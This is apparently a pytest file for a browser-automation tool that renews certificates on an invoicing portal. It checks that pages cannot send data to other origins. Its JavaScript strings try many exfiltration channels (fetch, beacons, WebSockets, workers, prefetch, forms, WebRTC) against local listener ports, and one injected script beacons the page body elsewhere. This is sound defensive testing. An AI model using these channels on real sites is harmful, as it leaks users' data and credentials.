"""What a page of the portal would send to another origin, by TCP or by UDP, stays here."""

from __future__ import annotations

import socket
import threading
from collections.abc import Callable, Iterator, Sequence
from contextlib import closing
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Playwright

from fixtures.portal import VARIANTS
from pages.address import authority
from rpa.browser import Candidate, candidates, launch
from rpa.settings import Settings
from tests.desk import PADARIA, PFX_PASSWORD, Desk

SECRET = "segredo-de-ninguem"


@dataclass
class Ears:
    """Ports of this machine on which everything is heard that comes, by TCP and by UDP."""

    heard: list[bytes] = field(default_factory=list)
    _sockets: list[socket.socket] = field(default_factory=list)

    def tcp(self, host: str = "127.0.0.1") -> int:
        """Another port that is listened to."""
        server = socket.create_server((host, 0))
        self._begin(server, lambda: self._read(server.accept()[0]))
        return int(server.getsockname()[1])

    def udp(self, host: str = "127.0.0.1") -> int:
        """Another port for datagrams."""
        datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        datagrams.bind((host, 0))
        self._begin(datagrams, lambda: self.heard.append(datagrams.recv(1 << 16)))
        return int(datagrams.getsockname()[1])

    def close(self) -> None:
        """Listen no more."""
        for each in self._sockets:
            each.close()

    def _begin(self, listener: socket.socket, listen: Callable[[], None]) -> None:
        def go_on() -> None:
            try:
                while True:
                    listen()
            except OSError:  # closed: the test is over
                return

        self._sockets.append(listener)
        listener.settimeout(20)
        threading.Thread(target=go_on, daemon=True).start()

    def _read(self, connection: socket.socket) -> None:
        with connection:
            connection.settimeout(0.3)
            self.heard.append(b"connected")
            try:
                while part := connection.recv(1 << 16):
                    self.heard.append(part)
            except OSError:  # nothing more comes
                return


@pytest.fixture
def ears() -> Iterator[Ears]:
    """Ears that are closed after the test."""
    with closing(Ears()) as listening:
        yield listening


def installed() -> Sequence[Candidate]:
    """Every browser that this machine has by a path: headless shells, and whole ones."""
    found = {c.path: c for headed in (False, True) for c in candidates(Settings({}), headed=headed) if c.path}
    return list(found.values())


@pytest.fixture(params=[None, *installed()], ids=lambda candidate: candidate.path.name if candidate else "own")
def closed(request: pytest.FixtureRequest, playwright: Playwright, desk: Desk) -> Iterator[Page]:
    """A page of the portal, in a browser that may reach that port of this machine alone: each that is installed."""
    values = {"RPA_BROWSER": str(request.param.path)} if request.param else {**desk.settings.values}
    browser, _origin = launch(playwright, Settings(values), headed=False, host=authority(desk.url))
    with closing(browser):
        page = browser.new_page()
        page.goto(desk.url)
        yield page


DOORS = """async ([there, secret]) => {
  const at = (path) => `http://${there}/${path}?${secret}`, body = secret, mode = "no-cors", method = "POST";
  const never = () => 0, later = (ms) => new Promise((done) => setTimeout(done, ms));
  fetch(at("fetch"), { method, mode, body }).catch(never);
  fetch(at("kept"), { method, mode, body, keepalive: true }).catch(never);
  fetch(at("json"), { method, body, headers: { "Content-Type": "application/json" } }).catch(never);
  navigator.sendBeacon(at("beacon"), body);
  new WebSocket(`ws://${there}/socket?${secret}`).onerror = never;
  new EventSource(at("events")).onerror = never;
  new Image().src = at("picture");
  const script = `fetch("${at("worker")}", { method: "POST", mode: "no-cors", body: "${secret}" }).catch(() => 0)`;
  const source = URL.createObjectURL(new Blob([script]));
  new Worker(source);
  new SharedWorker(source);
  for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "prerender", "stylesheet", "modulepreload"])
    document.head.append(Object.assign(document.createElement("link"), { rel, href: at(rel), as: "fetch" }));
  const urls = [at("rule")], rules = { prerender: [{ source: "list", urls }], prefetch: [{ source: "list", urls }] };
  const speculation = { type: "speculationrules", textContent: JSON.stringify(rules) };
  document.head.append(Object.assign(document.createElement("script"), speculation));
  const link = Object.assign(document.createElement("a"), { href: "#here", ping: at("ping") });
  document.body.append(link);
  link.click();
  for (const target of ["_blank", "inner"]) {
    const form = Object.assign(document.createElement("form"), { action: at("form"), method: "post", target });
    form.append(Object.assign(document.createElement("input"), { name: "senha", value: secret }));
    const frame = Object.assign(document.createElement("iframe"), { name: "inner" });
    document.body.append(frame, form);
    form.submit();
  }
  try { await new WebTransport(`https://${there}/`).ready; } catch { never(); }
  await later(1000);
}"""


@pytest.mark.parametrize("host", ["127.0.0.1", "127.0.0.2", "localhost"])
def test_no_door_of_a_page_leads_to_another_origin(closed: Page, ears: Ears, host: str) -> None:
    """Requests of every kind, sockets, workers, forms, pop-ups and what is loaded ahead: not even a connection is made.

    It is so for another port of the portal's own host, too.
    """
    port = ears.tcp("127.0.0.2" if host == "127.0.0.2" else "127.0.0.1")

    closed.evaluate(DOORS, [f"{host}:{port}", SECRET])

    assert ears.heard == []


CALLS = """async ([udp, udp2, tcp, secret]) => {
  const places = [["127.0.0.1", udp, "udp"], ["127.0.0.2", udp2, "udp"], ["127.0.0.1", tcp, "tcp"]];
  const servers = places.map(([host, port, by]) => (
    { urls: [`turn:${host}:${port}?transport=${by}`], username: secret, credential: secret }));
  servers.push(...places.filter((place) => place[2] === "udp").map(([h, port]) => ({ urls: `stun:${h}:${port}` })));
  const candidates = places.map(([host, port, by], i) => (
    `a=candidate:${i} 1 ${by} 2130706431 ${host} ${port} typ host${by === "tcp" ? " tcptype passive" : ""}`));
  const sdp = ["v=0", "o=- 1 2 IN IP4 127.0.0.1", "s=-", "t=0 0", "a=group:BUNDLE 0",
    "m=application 9 UDP/DTLS/SCTP webrtc-datachannel", "c=IN IP4 0.0.0.0", `a=ice-ufrag:${secret.replace(/-/g, "")}`,
    "a=ice-pwd:abcdefghijklmnopqrstuvwxyz", `a=fingerprint:sha-256 ${"00:".repeat(31)}00`, "a=setup:passive",
    "a=mid:0", "a=sctp-port:5000", ...candidates, ""].join("\\r\\n");
  const call = async (view) => {
    const there = new view.RTCPeerConnection({ iceServers: servers });
    there.createDataChannel("x");
    await there.setLocalDescription(await there.createOffer());
    await there.setRemoteDescription({ type: "answer", sdp });
  };
  const blank = document.createElement("iframe"), written = document.createElement("iframe");
  written.srcdoc = "<p>written</p>";
  document.body.append(blank, written);
  await new Promise((done) => { written.onload = done; });
  await Promise.all([window, blank.contentWindow, written.contentWindow].map(call));
  await new Promise((done) => setTimeout(done, 2000));
}"""


def test_no_call_of_a_page_leaves_this_machine(closed: Page, ears: Ears) -> None:
    """WebRTC asks no server and calls nobody, by UDP or TCP, from a page or from a frame that the page has written."""
    ports = [ears.udp(), ears.udp("127.0.0.2"), ears.tcp()]

    closed.evaluate(CALLS, [*ports, SECRET])

    assert ears.heard == []


def test_a_portal_of_any_port_may_send_to_itself(browser: Browser, playwright: Playwright, desk: Desk) -> None:
    """What a page sends to its own origin, whatever the path, arrives as before."""
    own, _origin = launch(playwright, desk.settings, headed=False, host=authority(desk.url))
    with closing(own):
        page = own.new_page()
        page.goto(desk.url)
        sent = "() => fetch('/gxnotice', { method: 'POST', body: 'x' }).then((answer) => answer.status)"

        assert page.evaluate(sent) == 204


@pytest.mark.parametrize(
    ("url", "there"),
    [
        ("https://app.invoicy.com.br/login.aspx", "app.invoicy.com.br:443"),
        ("https://Homolog.Invoicy.com.br:8443/x/", "homolog.invoicy.com.br:8443"),
        ("http://[::1]:8000/login.aspx", "[::1]:8000"),
        ("wss://app.invoicy.com.br/news", "app.invoicy.com.br:443"),
        ("about:blank", ""),
    ],
)
def test_an_address_has_one_port_written_or_not(url: str, there: str) -> None:
    """Two addresses lead to the same place where host and port agree, and only there."""
    assert authority(url) == there


@pytest.fixture
def client(desk: Desk) -> Path:
    """A clients file with one client, and an account that has it."""
    desk.company()
    desk.open_account()
    return desk.clients({"cnpj": PADARIA, "pfx": desk.pfx().name, "senha": PFX_PASSWORD})


@pytest.mark.parametrize("variant", ["new", "old"])  # by a script, and by a form
def test_a_login_that_is_sent_on_to_another_port_does_not_arrive_there(
    desk: Desk, client: Path, ears: Ears, variant: str
) -> None:
    """A 307 would carry e-mail and password along: the account stops, and says where that led."""
    desk.portal.sends_on, desk.portal.sends_on_to = ["login"], f"http://127.0.0.1:{ears.tcp()}"
    desk.portal.variant = VARIANTS[variant]

    ran = desk.rpa("renew", client, "--json")

    assert ran.results == {2: "parked"}, ran.out
    assert f"turned to {desk.portal.sends_on_to}," in ran.json[0]["reason"]
    assert len([request for request in desk.portal.memory.requests if request.method == "POST"]) == 1
    assert ears.heard == []


@pytest.mark.parametrize("variant", ["new", "old"])
def test_a_pfx_that_is_sent_on_to_another_port_does_not_arrive_there(
    desk: Desk, client: Path, ears: Ears, variant: str
) -> None:
    """A 307 would carry PFX and password along: the list is read, nothing is renewed, and the client is told."""
    desk.portal.variant = VARIANTS[variant]
    desk.portal.sends_on, desk.portal.sends_on_to = ["certificado"], f"http://127.0.0.1:{ears.tcp()}"

    ran = desk.rpa("renew", client, "--json", RPA_RETRY_PAUSES="0")

    assert ran.json[0]["result"] in ("failed", "unverified"), ran.out
    assert any(desk.portal.sends_on_to in note for note in ran.json[0]["warnings"]), ran.out
    assert ears.heard == []


def test_a_script_that_sends_elsewhere_is_told_of_and_the_client_is_renewed(
    desk: Desk, client: Path, ears: Ears
) -> None:
    """What was stopped beside the road does not stop the road."""
    there = f"127.0.0.1:{ears.tcp()}"
    desk.portal.script = f"navigator.sendBeacon('http://{there}/', document.body.innerHTML)"

    ran = desk.rpa("renew", client, "--json")

    assert ran.results == {2: "renewed"}, ran.out
    assert [note for note in ran.json[0]["warnings"] if there in note and "stopped" in note]
    assert ears.heard == []
